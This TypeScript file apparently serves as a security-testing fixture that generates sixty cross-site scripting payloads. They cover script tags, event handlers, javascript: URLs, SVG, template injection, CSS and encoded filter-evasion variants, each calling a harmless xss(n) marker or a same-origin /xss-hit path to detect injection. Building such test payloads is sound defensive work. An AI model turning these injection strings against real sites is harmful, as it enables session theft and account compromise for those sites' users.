// Texts that run as a script wherever a page takes them for markup, for an address or for code. Each calls
// `xss` with its number, or asks the server for /xss-hit; elements carry `data-x`, so that markup is found
// even where a policy keeps it from running.
const hit = (at: number) => `xss(${at})`;

const PATTERNS: readonly ((at: number) => string)[] = [
  // Scripts
  (at) => `<script data-x>${hit(at)}</script>`,
  (at) => `</script><script data-x>${hit(at)}</script>`,
  (at) => `<ScRiPt data-x>${hit(at)}</sCrIpT>`,
  (at) => `<script data-x src=/xss-hit?${at}></script>`,
  (at) => `<script data-x src=data:,${hit(at)}></script>`,
  (at) => `<<script data-x>${hit(at)}//<</script>`,
  (at) => `<script data-x type=module>${hit(at)}</script>`,
  (at) => `"><script data-x>${hit(at)}</script>`,
  (at) => `'><script data-x>${hit(at)}</script>`,
  (at) => `--><script data-x>${hit(at)}</script>`,
  (at) => `</title><script data-x>${hit(at)}</script>`,
  (at) => `</textarea><script data-x>${hit(at)}</script>`,
  // Event handlers
  (at) => `<img data-x src=x onerror=${hit(at)}>`,
  (at) => `<img data-x src=/xss-hit?${at}>`,
  (at) => `<body data-x onload=${hit(at)}>`,
  (at) => `<input data-x autofocus onfocus=${hit(at)}>`,
  (at) => `<details data-x open ontoggle=${hit(at)}>`,
  (at) => `<video data-x><source onerror=${hit(at)}>`,
  (at) => `<audio data-x src onerror=${hit(at)}>`,
  (at) => `<marquee data-x onstart=${hit(at)}>`,
  (at) => `<div data-x onpointerover=${hit(at)}>x</div>`,
  (at) => `<select data-x autofocus onfocus=${hit(at)}>`,
  (at) => `" onmouseover=${hit(at)} data-x="`,
  (at) => `' autofocus onfocus=${hit(at)} data-x='`,
  (at) => `<img/data-x/src='x'/onerror=${hit(at)}>`,
  (at) => `<style data-x onload=${hit(at)}></style>`,
  // Addresses
  (at) => `javascript:${hit(at)}`,
  (at) => `JaVaScRiPt:${hit(at)}`,
  (at) => `java\tscript:${hit(at)}`,
  (at) => `\u0001javascript:${hit(at)}`,
  (at) => `javascript://%0a${hit(at)}`,
  (at) => `data:text/html,<script>${hit(at)}</script>`,
  (at) => `vbscript:${hit(at)}`,
  (at) => `<a data-x href=javascript:${hit(at)}>x</a>`,
  (at) => `<iframe data-x src=javascript:${hit(at)}>`,
  (at) => `<iframe data-x srcdoc="<script>${hit(at)}</script>">`,
  (at) => `<form data-x action=javascript:${hit(at)}>`,
  (at) => `<object data-x data=javascript:${hit(at)}>`,
  (at) => `<embed data-x src=/xss-hit?${at}>`,
  (at) => `<meta data-x http-equiv=refresh content=0;url=/xss-hit?${at}>`,
  () => '<base data-x href=/xss-hit/>',
  (at) => `<link data-x rel=stylesheet href=/xss-hit?${at}>`,
  // SVG and MathML
  (at) => `<svg data-x onload=${hit(at)}>`,
  (at) => `<svg data-x><script>${hit(at)}</script></svg>`,
  (at) => `<svg data-x><animate onbegin=${hit(at)} attributeName=x dur=1s>`,
  (at) => `<svg data-x><a href=javascript:${hit(at)}><text>x`,
  (at) => `<math data-x><mi xlink:href=javascript:${hit(at)}>`,
  // Templates and what frameworks read
  (at) => `{{constructor.constructor('${hit(at)}')()}}`,
  (at) => `\${${hit(at)}}`,
  (at) => `<%= ${hit(at)} %>`,
  (at) =>
    `{"dangerouslySetInnerHTML":{"__html":"<img data-x src=x onerror=${hit(at)}>"}}`.slice(0, 80),
  (at) => `#{${hit(at)}}`,
  (at) => `$t(${hit(at)})`,
  // Styles
  (at) => `<style data-x>*{background:url(/xss-hit?${at})}</style>`,
  (at) => `x;background:url(/xss-hit?${at})`,
  (at) => `<div data-x style=background:url(/xss-hit?${at})>`,
  // Other writings of the same characters
  (at) => `\uFF1Cscript data-x\uFF1E${hit(at)}\uFF1C/script\uFF1E`,
  (at) => `&lt;img data-x src=x onerror=${hit(at)}&gt;`,
  (at) => `%3Cimg data-x src=x onerror=${hit(at)}%3E`,
  // Tables
  (at) => `=HYPERLINK("javascript:${hit(at)}","x")`,
];

/** Sixty payloads, the same ones each time. */
export const PAYLOADS: readonly string[] = PATTERNS.map((write, at) => write(at));
